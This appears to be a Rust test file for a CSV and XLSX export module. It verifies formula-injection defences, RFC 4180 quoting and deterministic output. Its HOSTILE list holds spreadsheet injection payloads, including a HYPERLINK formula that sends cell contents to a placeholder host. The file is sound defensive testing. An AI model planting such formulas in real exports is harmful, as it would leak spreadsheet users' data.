use super::*;
use chrono::{DateTime, Utc};

const HOSTILE: &[&str] = &[
    "=1+1",
    "+K12.2.07",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\u{ff1d}1+1",
    "=HYPERLINK(\"http://x.invalid?\"&A1,\"here\")",
    "harmless;=1+1",
    "a,\"quoted\"\r\nline",
    "Filter bed 1, 5 µA",
];

fn sheet() -> Sheet {
    let columns = vec![
        Column { header: "Title", width: 30.0, form: Form::Text },
        Column { header: "Pieces", width: 8.0, form: Form::Count },
        Column { header: "Mean", width: 8.0, form: Form::Number(3) },
        Column { header: "Cost, money", width: 8.0, form: Form::Money },
        Column { header: "By", width: 12.0, form: Form::Day },
    ];
    let day = NaiveDate::from_ymd_opt(2027, 3, 9);
    let row = |text: &&str| {
        vec![Cell::from(*text), 12u32.into(), (-0.1234).into(), 123_456i64.into(), day.into()]
    };
    let mut rows: Vec<_> = HOSTILE.iter().map(row).collect();
    rows.push(vec!["".into(), None::<u32>.into(), f64::NAN.into(), Cell::Nothing, Cell::Nothing]);
    Sheet { title: "Levels".to_owned(), columns, rows }
}

fn moment() -> DateTime<Utc> {
    DateTime::from_timestamp(1_790_000_000, 0).unwrap()
}

#[test]
fn no_cell_of_csv_begins_a_formula_and_each_reads_back() {
    let bytes = csv(&sheet()).unwrap();
    let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for (row, text) in rows.iter().zip(HOSTILE) {
        let cell = &row[0];
        assert!(!cell.starts_with(&BEGINNINGS[..BEGINNINGS.len() - 1]), "{cell:?}");
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), *text);
        assert_eq!([&row[1], &row[2], &row[3], &row[4]], ["12", "-0.123", "1234.56", "2027-03-09"]);
    }
    let last: Vec<&str> = rows[HOSTILE.len()].iter().collect();
    assert_eq!(last, [""; 5]);
}

/// RFC 4180: lines end with CR LF, the last one too; texts with comma, quote or line break are
/// quoted and a quote within is doubled.
#[test]
fn csv_follows_the_rules_to_the_byte() {
    let mut two = sheet();
    two.rows.truncate(0);
    two.rows.push(vec![
        "a,\"b\"".into(),
        3u32.into(),
        1.5.into(),
        50i64.into(),
        NaiveDate::from_ymd_opt(2026, 1, 2).into(),
    ]);
    assert_eq!(
        String::from_utf8(csv(&two).unwrap()).unwrap(),
        "\"Title\",\"Pieces\",\"Mean\",\"Cost, money\",\"By\"\r\n\
         \"a,\"\"b\"\"\",3,1.500,0.50,\"2026-01-02\"\r\n"
    );
}

#[test]
fn addresses_keep_a_form_that_reads_back() {
    assert_eq!(safe_text("+K12.2.07"), "'+K12.2.07");
    assert_eq!(safe_text("'+K12"), "''+K12");
    assert_eq!(safe_text("MP-CP1"), "MP-CP1");
    assert_eq!(safe_text(""), "");
}

#[test]
fn equal_sheets_give_equal_bytes() {
    assert_eq!(xlsx(&sheet(), moment()).unwrap(), xlsx(&sheet(), moment()).unwrap());
    assert_eq!(&xlsx(&sheet(), moment()).unwrap()[..2], b"PK");
}
